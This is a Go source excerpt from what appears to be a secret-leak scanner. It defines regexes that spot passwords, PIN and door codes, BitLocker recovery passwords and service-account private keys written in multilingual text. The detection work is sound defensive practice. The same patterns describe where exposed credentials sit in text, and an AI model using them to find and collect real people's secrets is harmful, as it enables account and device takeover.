// arrow, but for words that say where it is kept (isLabelKept):
// "password is just the serial backwards: …", "le mdp est tout en
// minuscules : …".
var (
	isLabelWordsIn = regexp.MustCompile(`(?i)(?:^|[^\w-])(?:password|passwort|kennwort|passphrase|passcode|pwd|pword|passwd|mdp|mot de passe|motdepasse|contraseña|contrasena|clave|pass)\b[ \t](?:is|est|es)((?:[ \t][^\s:=?]{1,20}){1,14}?)[ \t]?(?:[:=]|->|→)[ \t]{0,2}["'\x60«“„»”]?[^\s"'\x60<>«»“”„]{4,64}`)
	isLabelKept    = regexp.MustCompile(`(?i)\b(?:stored|saved|kept|located|listed|see|siehe|voir|ver|dans|unter|under|gespeichert|hinterlegt|enregistr\w*|guardad\w*)\b`)
)

// isLabelIn reports isLabelWordsIn's label in text.
func isLabelIn(text string) bool {
	for _, m := range isLabelWordsIn.FindAllStringSubmatch(text, -1) {
		if !isLabelKept.MatchString(m[1]) {
			return true
		}
	}
	return false
}

// codeGivenIn is a code or PIN given after its label, up to eight words and
// ":", "is" or an arrow.
var codeGivenIn = regexp.MustCompile(`(?i)(?:^|[^\w-])(?:codes?|c(?:ó|o)digo|pin-?code|passcode|combo)\b(?:[ \t][^\s:=?]{1,20}){0,8}?(?:[ \t]?[:=]|[ \t]?(?:→|->|=>)|[ \t](?:is|was|ist|isch|lautet|est|es|era|war|c'est))[ \t]{1,2}["'«]?[*#]?\d(?:[ -]?\d){3,7}[#*]?(?:[^\w.,/:-]|[.,/:](?:\D|$)|$)`)

// roomCodeIn is a code after a German compound ending in Raum, Keller or
// Schrank and ":".
var roomCodeIn = regexp.MustCompile(`(?i)\w(?:raum|keller|schrank)\b[^\n.!?]{0,60}?[ \t]?:[ \t]{1,2}[*#]?\d(?:[ -]?\d){3,7}`)

// thenKeyIn is a code, a step and the key that confirms it.
var thenKeyIn = regexp.MustCompile(`(?i)\d{4,8}[ \t]{0,2}(?:,[ \t]{0,2})?(?:dann|then|puis|luego|y|→|->|\+)[ \t]{0,2}(?:(?:la|le|die|the|luego|dann|press|touche|taste|tecla)[ \t]{1,2}){0,3}(?:ok|haken|cl[ée]|llave|campana|key|taste|tecla|touche)(?:$|[\s.,;!?)])`)

// bitLockerIn finds a BitLocker recovery password.
var bitLockerIn = regexp.MustCompile(`\b\d{6}(?:-\d{6}){7}\b`)

// gcpKeyIn finds the private key of a service-account key file.
var gcpKeyIn = regexp.MustCompile(`service_account.*"private_key":\s*"-----BEGIN (?:RSA )?PRIVATE KEY-----`)
